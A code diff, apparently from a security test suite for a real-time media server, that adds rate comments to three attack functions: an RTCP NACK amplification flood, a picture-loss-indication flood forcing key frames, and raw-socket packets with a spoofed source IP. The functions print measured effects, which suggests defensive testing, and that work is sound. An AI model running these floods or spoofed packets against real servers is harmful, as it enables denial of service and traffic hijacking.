@@ -97,7 +97,7 @@ async def nacks(target: Target) -> None:
     for _ in range(55):
         pairs = struct.pack("!HH", eve.latest[0], 0xFFFF) * 320
         eve.connection.send_rtcp(struct.pack("!BBHII", 0x81, 205, 2 + 320, 1, eve.ssrc) + pairs)
-        await asyncio.sleep(10 / 55)
+        await asyncio.sleep(10 / 55)  # 5.5 a second
     print(f"    sent to it: {(eve.octets - before) / 10_000:.0f} kB/s, of a stream of 120")
 
 
@@ -108,7 +108,7 @@ async def key_frames(target: Target) -> None:
     before = running.ada.key_frames_asked
     for _ in range(200):
         eve.connection.send_rtcp(rtcp.picture_loss(1, eve.ssrc))
-        await asyncio.sleep(0.05)
+        await asyncio.sleep(0.05)  # twenty a second
     print(f"    key frames asked of the publisher: {running.ada.key_frames_asked - before}")
 
 
@@ -124,7 +124,7 @@ async def stolen_address(target: Target) -> None:
         head = struct.pack("!HHHH", source[1], to[1], 8 + len(check), 0)
         ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(check), 0, 0, 64, 17, 0, *[socket.inet_aton(to[0])] * 2)
         raw.sendto(ip + head + check, (to[0], 0))
-        await asyncio.sleep(0.02)
+        await asyncio.sleep(0.02)  # fifty a second
     raw.close()
     print(f"    packets that another received: {(bob.packets - before) / 5:.0f} a second")
 
